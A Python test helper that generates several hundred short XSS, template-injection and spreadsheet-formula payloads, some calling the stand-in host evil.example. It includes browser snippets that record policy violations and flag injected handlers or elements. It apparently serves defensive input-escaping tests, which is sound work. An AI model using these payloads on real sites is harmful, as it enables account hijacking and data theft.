"""Words that would like to be code: at least 300 of them, none longer than a title may be."""

from __future__ import annotations

import random
from itertools import product

SHORT = 110
ACTS = ("alert(1)", "window.RAN=1", "print()", "fetch('//evil.example')", "top.RAN=1", "eval('RAN=1')")
ELEMENTS = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script src=//evil.example></script>", "<script\n>{}</script\n>",
    "<img src=x onerror={}>", "<img src=x onerror=\"{}\">", "<IMG/SRC=x/ONERROR={}>", "<img src='x'onerror='{}'>",
    "<svg onload={}>", "<svg/onload={}>", "<svg><script>{}</script></svg>", "<svg><animate onbegin={} attributeName=x>",
    "<body onload={}>", "<input autofocus onfocus={}>", "<select autofocus onfocus={}>", "<details open ontoggle={}>",
    "<video src=x onerror={}>", "<audio src onloadstart={}>", "<marquee onstart={}>", "<iframe src=javascript:{}>",
    "<iframe srcdoc='<script>{}</script>'>", "<object data=javascript:{}>", "<embed src=javascript:{}>",
    "<a href=javascript:{}>x</a>", "<a href='java\tscript:{}'>x</a>", "<form action=javascript:{}><button>x</form>",
    "<button formaction=javascript:{}>x", "<math href=javascript:{}>x",
    "<meta http-equiv=refresh content=0;javascript:{}>", "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example>", "<style>@import'//evil.example';</style>",
    "<div style=background:url(//evil.example)>x", "<template><script>{}</script></template>", "<b data-bend>x</b>",
    "<div hx-get=/sign-in/ hx-trigger=load>x</div>", "<div hx-on::load={}>x</div>", "<div hx-on:click={}>x</div>",
    "<div data-hx-post=/sign-out/ hx-trigger=load>x", "<form method=post action=/sign-out/ data-bend><button>x</form>",
    "<dialog open data-bend>x</dialog>", "<p id=hl-failed data-bend>", "<img name=body data-bend>",
    "<x onclick={}>x</x>",
)  # fmt: skip
BREAKS = (
    "{}", '">{}', "'>{}", "</title>{}", "</textarea>{}", "</script>{}", "</style>{}", "-->{}", "</option></select>{}",
    "]]>{}", "</a>{}", "`>{}", "*/{}", "</template>{}", "\\\">{}", "</noscript>{}", "&quot;>{}",
)  # fmt: skip
OTHERS = (
    '" onmouseover="{}', "' onfocus='{}' autofocus='", '" autofocus onfocus={} x="', "` onclick=`{}",
    '"style="x:expression({})', "javascript:{}", "JaVaScRiPt:{}", "data:text/html,<script>{}</script>", "vbscript:{}",
    "';{};//", '";{};//', "\\';{};//",
    "${{{}}}", "`${{{}}}`", "{{{{constructor.constructor('{}')()}}}}", "{{% debug %}}", "{{{{ settings.SECRET_KEY }}}}",
    "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;", "%3Cscript%3E{}%3C/script%3E",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e", "\\x3cscript\\x3e{}\\x3c/script\\x3e", "＜script＞{}＜/script＞",
    "<scr<script>ipt>{}</scr</script>ipt>", "<<script>{}//<</script>", "<script/{}>", "<\u200bscript>{}</script>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>", "<math><style><img src=x onerror={}></style></math>",
    "<svg></p><style><a id='</style><img src=x onerror={}>'>", "=cmd|'/C {}'!A0", "@SUM(1)*{}", "[x](javascript:{})",
    "![x](x' onerror='{})", "<!--[if gte IE 4]><script>{}</script><![endif]-->", "<?xml version='1.0'?><x>{}</x>",
    "\u2028{}\u2029", "\ufeff<script>{}</script>", "<img src=x onerror&#61;{}>", "<a href=&#106;avascript:{}>x</a>",
)  # fmt: skip


def texts(chance: random.Random, n: int = 300) -> list[str]:
    """All that stand alone, and as many of those that first break out of where they stand."""
    alone = [word.format(ACTS[turn % len(ACTS)]) for turn, word in enumerate((*OTHERS, *ELEMENTS))]
    broken = [b.format(e.format(a)) for b, e, a in product(BREAKS, ELEMENTS, ACTS) if b != "{}"]
    fitting = [word for word in dict.fromkeys(alone + chance.sample(broken, len(broken))) if len(word) <= SHORT]
    return fitting[:n]


# What the page itself never has, and what happened to it. Run in the browser.
WATCH = """() => {
    window.BENT = [];
    document.addEventListener("securitypolicyviolation", (e) =>
        window.BENT.push(`${e.violatedDirective} stopped ${e.blockedURI} at ${e.sourceFile}: ${e.sample}`));
}"""
LOOK = """() => {
    const found = [...(window.BENT || [])];
    if (window.RAN) found.push("code ran");
    for (const e of document.querySelectorAll("*")) {
        const said = e.outerHTML.slice(0, 160);
        for (const a of e.attributes) {
            if (a.name.startsWith("on") || a.name.includes("hx-on")) found.push(`has a handler: ${said}`);
            if (a.name === "style" && a.value.includes("url(")) found.push(`has a style: ${said}`);
            const leads = ["href", "src", "action", "formaction", "data"].includes(a.name);
            if (leads && /^\\s*(java|vb)script:|^\\s*data:text/i.test(a.value)) found.push(`leads to code: ${said}`);
        }
        if (e.matches("[data-bend], base, object, embed, iframe, marquee, meta[http-equiv]") ||
            e.matches("script:not([src]):not([type])")) found.push(`was not written by us: ${said}`);
    }
    return found;
}"""
